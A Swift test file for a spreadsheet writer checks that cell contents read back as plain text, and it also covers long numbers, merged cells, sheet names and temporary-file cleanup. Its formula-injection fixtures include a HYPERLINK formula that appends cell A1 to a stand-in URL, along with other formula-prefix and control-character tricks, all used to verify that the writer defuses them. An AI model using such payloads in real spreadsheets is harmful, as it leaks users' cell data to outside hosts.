import Foundation
import Testing
import YijuValues

@testable import YijuForms

private typealias Decimal = YijuValues.Decimal

/// Sheets are read back by a reader that shares nothing with their writer.
@Suite struct SheetTests {
  private static let formulas = [
    "=1+1", "=HYPERLINK(\"http://x.test/?\"&A1,\"ok\")", "+1+1", "-1", "@SUM(1)", " =1", "　=1", "＝1+1", "'=1", "{=1}",
    "=\u{202E}1", "_x0041_", "a\u{1}b", "a\rb", "a\u{7F}", "a\u{FFFF}", "a\u{0}b", "440524188001010014", "1-2",
    "MARCH1",
    "</t><f>1</f>", "مەمەت ئېلى", "买买提·艾力", "第一行\n第二行", " 前后 ", "😀", "&amp;",
  ]

  private static func cell(_ text: String, number: Decimal? = nil, columns: Int = 1, rows: Int = 1) -> FilledCell {
    FilledCell(
      text: text, number: number, columns: columns, rows: rows, alignment: nil, style: .plain, lines: 1, isFilled: true)
  }

  private static func form(
    _ rows: [[FilledCell]], columns: Int = 1, headRows: Int = 0, title: String = "表", paper: FormLayout.PaperSize = .a4
  ) -> FilledForm {
    FilledForm(
      title: title, paper: FormLayout.Paper(size: paper, isLandscape: paper == .a3),
      blocks: [.table(widths: [Int](repeating: 1, count: columns), rows: rows, headRows: headRows)])
  }

  private static func written(_ form: FilledForm) throws -> [UInt8] {
    try SheetWriter.workbook(form, scratch: ["/dev/shm", "/tmp"])
  }

  // MARK: Cells

  /// No cell says it is a formula, and every text reads back as it was.
  @Test func textsStayTexts() throws {
    let sheet = try SheetReading(Self.written(Self.form(Self.formulas.map { [Self.cell($0)] })))
    let meant = Self.formulas.map { text in
      text.unicodeScalars.reduce(into: "") { result, scalar in
        let isKept = scalar == "\n" || scalar.value >= 0x20 && scalar.value != 0x7F && scalar.value != 0xFFFF
        result += isKept ? String(scalar) : "\\u{\(String(scalar.value, radix: 16, uppercase: true))}"
      }
    }
    #expect(sheet.cells.map(\.text) == meant)
    #expect(sheet.cells.allSatisfy { $0.kind == "text" && $0.format == 49 })
    #expect(!sheet.hasFormulas)
  }

  @Test func sumsAreNumbersAndNothingElseIs() throws {
    let form = try FormsTests.filled("form-2", [try FormsTests.decided("甲", level: "五级")])
    let sheet = try SheetReading(Self.written(form))
    for text in ["11010519491231002X", "0099123456", "1731003000512345"] {
      #expect(sheet.cells.contains { $0.text == text && $0.kind == "text" && $0.format == 49 })
    }
    #expect(sheet.cells.filter { $0.kind == "number" }.map(\.text) == ["1", "40", "1000"])
  }

  /// A sheet keeps fifteen digits of a number and makes the others noughts.
  @Test(arguments: [
    ("123456789012345", "number"), ("1234567890123456", "text"), ("1234567890123.45", "number"), ("0.1", "number"),
    ("12345678901234.56", "text"), ("-999999999999999", "number"), ("0.000001", "number"),
  ])
  func longNumbersAreTexts(_ text: String, _ kind: String) throws {
    let number = try #require(Decimal(text: text))
    let sheet = try SheetReading(Self.written(Self.form([[Self.cell(text, number: number)]])))
    let cell = try #require(sheet.cells.first)
    #expect(cell.kind == kind)
    #expect(kind == "text" ? cell.text == text : Double(cell.text) == Double(text))
  }

  @Test(arguments: ["form-1", "form-2", "form-3"])
  func everyTextOfAFormIsInItsSheet(_ name: String) throws {
    let form = try FormsTests.filled(name, [try FormsTests.decided("买买提·艾力", level: "五级")])
    let sheet = try SheetReading(Self.written(form))
    let texts = sheet.cells.map(\.text)
    // A sum has its thousands set apart on paper; in a sheet that is the reader's.
    for text in FormsTests.texts(form) where !text.isEmpty {
      #expect(texts.contains(text == "1,000" ? "1000" : text))
    }
    #expect(sheet.paper == (name == "form-2" ? "8 landscape" : "9 portrait"))
  }

  @Test func cellsOverSeveralRowsAndColumnsAreMerged() throws {
    let rows = [
      [
        Self.cell("甲", rows: 2), Self.cell("乙", columns: 2),
        Self.cell("丙", number: Decimal(text: "7"), columns: 1, rows: 2),
      ],
      [Self.cell("丁"), Self.cell("戊")],
      [Self.cell("己", columns: 4)],
    ]
    let sheet = try SheetReading(Self.written(Self.form(rows, columns: 4, headRows: 2)))
    #expect(sheet.merged == ["A1:A2", "A3:D3", "B1:C1", "D1:D2"])
    #expect(sheet.cells.map { $0.place + $0.text } == ["A1甲", "B1乙", "D17", "B2丁", "C2戊", "A3己"])
    // Every place of the table has a frame, also under a merged cell.
    #expect(sheet.framed == 12)
    #expect(sheet.repeated.hasSuffix("!$1:$2"))
  }

  // MARK: The book

  @Test func equalFormsGiveEqualBytes() throws {
    let cases = [try FormsTests.decided("甲", level: "五级")]
    let first = try Self.written(try FormsTests.filled("form-2", cases))
    #expect(try first == Self.written(try FormsTests.filled("form-2", cases)))
    #expect(first.starts(with: [0x50, 0x4B, 3, 4]))
  }

  @Test(arguments: [
    ("汇总表", "汇总表"), ("a[b]:c*d?e/f\\g'h", "abcdefgh"), ("[]", "Sheet1"), ("", "Sheet1"),
    (String(repeating: "表", count: 40), String(repeating: "表", count: 31)),
    (String(repeating: "😀", count: 40), String(repeating: "😀", count: 15)),
  ])
  func theSheetHasTheTitleAsFarAsItMay(_ title: String, _ name: String) throws {
    let sheet = try SheetReading(Self.written(Self.form([[Self.cell("甲")]], title: title)))
    #expect(sheet.name == name)
  }

  @Test func nothingIsLeftBehind() throws {
    let folder = FileManager.default.temporaryDirectory.appending(path: "yiju-sheets-\(UUID().uuidString)")
    try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
    defer { try? FileManager.default.removeItem(at: folder) }
    _ = try SheetWriter.workbook(Self.form([[Self.cell("甲")]]), scratch: [folder.path()])
    #expect(throws: SheetError.textTooLong(row: 1, column: 1)) {
      _ = try SheetWriter.workbook(
        Self.form([[Self.cell(String(repeating: "字", count: 32_768))]]), scratch: [folder.path()])
    }
    #expect(try FileManager.default.contentsOfDirectory(atPath: folder.path()).isEmpty)
  }

  @Test func aTextMayBeAsLongAsACell() throws {
    let text = String(repeating: "字", count: 32_767)
    let sheet = try SheetReading(Self.written(Self.form([[Self.cell(text)]])))
    #expect(sheet.cells.first?.text == text)
  }

  @Test func withoutAFolderThereIsNoSheet() {
    #expect(throws: SheetError.noScratch(["/nowhere", "/proc"])) {
      _ = try SheetWriter.workbook(Self.form([[Self.cell("甲")]]), scratch: ["/nowhere", "/proc"])
    }
  }
}
